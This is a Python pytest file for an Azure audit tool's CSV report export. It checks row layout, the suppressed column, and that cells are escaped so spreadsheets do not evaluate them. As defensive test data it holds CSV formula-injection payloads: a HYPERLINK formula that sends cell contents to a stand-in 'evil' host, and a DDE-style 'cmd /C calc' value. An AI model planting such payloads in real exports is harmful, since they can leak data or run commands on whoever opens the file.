"""The CSV report: one row per result, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from aciaudit.escape import csv_cell
from aciaudit.reports import render
from aciaudit.reports.csv_report import HEADER
from aciaudit.run import Run, audit
from aciaudit.sources.demo import DEMO_POLICY, load_demo
from checks.model import Status
from tests.fixtures import SUB_ID, make_snapshot, registry


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_result_with_every_column() -> None:
    run = audit(load_demo(), DEMO_POLICY)
    text = render(run, "csv")
    assert text.startswith(",".join(HEADER) + "\r\n")
    table = rows(text)
    assert len(table) == len(run.results)
    first, result = table[0], run.results[0]
    assert first["check_id"] == result.check_id
    assert first["status"] == result.status.value
    assert first["resource_id"] == result.resource_id
    assert first["severity"] == run.severity(result).value
    assert first["suppressed"] == "no"
    assert {r["status"] for r in table} >= {"FAIL", "PASS"}


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("plain name", "plain name"),
        ("a=b", "a=b"),
        ("two\nlines", "two lines"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_cell_neutralises_formulas(raw: object, cell: str) -> None:
    assert csv_cell(raw) == cell


def test_hostile_resource_names_are_text_in_the_report() -> None:
    # No `/` in the name: an ARM id cannot carry one inside a name segment.
    evil = registry(name='=HYPERLINK(CONCAT("https:",A1),"click")', subscription=SUB_ID)
    plus = registry(name="+cmd", subscription=SUB_ID)
    run = audit(make_snapshot([evil, plus]))
    table = rows(render(run, "csv"))
    names = {r["resource_name"] for r in table}
    assert '\'=HYPERLINK(CONCAT("https:",A1),"click")' in names
    assert "'+cmd" in names
    for row in table:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # The message names the resource too: it is neutralised only where it leads a cell.
    assert any("=HYPERLINK" in r["message"] for r in table)


def test_suppressed_column() -> None:
    run = audit(load_demo(), DEMO_POLICY)
    fail = next(r for r in run.results if r.status is Status.FAIL)
    run = Run(run.snapshot, run.index, run.results, run.catalogue)
    run.suppressions[(fail.check_id, fail.resource_id)] = "accepted"
    table = rows(render(run, "csv"))
    marked = [r for r in table if r["suppressed"] == "yes"]
    assert [(r["check_id"], r["resource_id"]) for r in marked] == [
        (fail.check_id, fail.resource_id)
    ]
